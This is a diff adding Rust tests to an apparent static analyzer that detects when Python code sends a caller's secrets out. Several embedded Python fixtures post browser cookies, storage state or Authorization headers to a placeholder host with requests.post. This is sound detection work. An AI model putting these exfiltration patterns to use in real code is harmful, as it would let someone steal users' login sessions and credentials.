@@ -279,3 +279,105 @@ fn what_a_key_object_gives_out_of_itself_still_carries_it() {
     let (kinds, from) = origins_of_sent(body);
     assert!(kinds.contains(OriginKind::File), "{kinds:?} {from:?}");
 }
+
+/// Whether a secret of the caller is sent, and as what text.
+fn secret_sent(body: &str) -> (bool, String) {
+    let source = format!("import json, requests\n{body}\n");
+    let sent = event(&source, "requests.post");
+    let data = sent.argument(Role::Data).expect("a body");
+    let text = data.value.as_ref().map(|v| v.text.to_string()).unwrap_or_default();
+    (data.origins.kinds.contains(OriginKind::Secret), text)
+}
+
+#[test]
+fn what_keeps_a_caller_logged_in_is_a_secret_of_its_name() {
+    const URL: &str = "requests.post('https://a.example', data=";
+    for (body, name) in [
+        (format!("def f(driver):\n    {URL}json.dumps(driver.get_cookies()))"), "cookies"),
+        (
+            format!("def f(driver):\n    jar = driver.get_cookies()\n    {URL}json.dumps({{'c': jar}}))"),
+            "cookies",
+        ),
+        (format!("def f(context):\n    {URL}str(context.cookies()))"), "cookies"),
+        (format!("def f(session):\n    {URL}str(session.cookies))"), "cookies"),
+        (
+            format!("async def f(context):\n    {URL}json.dumps(await context.storage_state()))"),
+            "storage_state",
+        ),
+        (format!("def f(headers):\n    {URL}headers['Authorization'])"), "authorization"),
+        (
+            format!(
+                "class S(requests.Session):\n    def request(self, m, url, **kw):\n        {URL}str(kw.get('auth')))"
+            ),
+            "auth",
+        ),
+        (format!("def f(**kw):\n    {URL}str(kw['auth']))"), "auth"),
+        (format!("def f(**kw):\n    {URL}kw.pop('authorization', ''))"), "authorization"),
+    ] {
+        let (is_secret, text) = secret_sent(&body);
+        assert!(is_secret && text.contains(&format!("⟨argument[{name}]⟩")), "{body}: {is_secret} {text}");
+    }
+}
+
+#[test]
+fn what_logs_the_caller_in_where_it_is_sent_is_no_secret_told() {
+    for body in [
+        "def f(data, **kw):\n    requests.post('https://a.example', data=data, auth=kw.get('auth'))",
+        "def f(driver, data):\n    requests.post('https://a.example', data=data, cookies=driver.get_cookies())",
+    ] {
+        let source = format!("import requests\n{body}\n");
+        let sent = event(&source, "requests.post");
+        assert!(!sent.input.kinds.contains(OriginKind::Secret), "{body}: {sent:?}");
+    }
+    let (is_secret, _) =
+        secret_sent("def f(event):\n    requests.post('https://a.example', data=event.author)");
+    assert!(!is_secret);
+}
+
+#[test]
+fn a_caller_may_pass_any_rest_of_arguments() {
+    for test in [
+        "kw.get('go')",
+        "kw.pop('go', None)",
+        "kw['go']",
+        "'go' in kw",
+        "'go' not in kw",
+        "kw",
+        "not kw",
+        "len(kw) > 1",
+        "args",
+        "not args",
+        "len(args) > 1",
+        "args[0]",
+    ] {
+        for branch in
+            ["    if {}:\n        os.system('echo')", "    if {}:\n        return\n    os.system('echo')"]
+        {
+            let source = format!("import os\ndef f(*args, **kw):\n{}\n", branch.replace("{}", test));
+            let found = events_of(&source).into_iter().find(|e| &*e.name == "os.system");
+            assert!(found.is_some_and(|e| e.trigger == Trigger::Run), "{test}");
+        }
+    }
+}
+
+#[test]
+fn what_the_code_puts_into_the_rest_is_known() {
+    for (body, command) in [
+        ("kw['x'] = 'echo a'\n    os.system(kw['x'])", "echo a"),
+        ("kw['x'] = 'echo a'\n    os.system(kw.get('x'))", "echo a"),
+        ("os.system(kw.get('x', 'echo a'))", "echo a"),
+        ("kw.setdefault('x', 'echo a')\n    os.system(kw['x'])", "echo a"),
+    ] {
+        let events = events_of(&format!("import os\ndef f(**kw):\n    {body}\n"));
+        let found = events.iter().find(|e| &*e.name == "os.system").and_then(|e| e.text(Role::Command));
+        assert_eq!(found, Some(command), "{body}");
+    }
+    // A call inside the artifact passes what it passes.
+    let events = events_of("import os\ndef f(**kw):\n    if kw.get('go'):\n        os.system('echo')\nf()\n");
+    assert!(
+        events
+            .iter()
+            .all(|e| &*e.name != "os.system" || e.trigger == Trigger::Run || !e.conditions.is_empty()),
+        "{events:?}"
+    );
+}
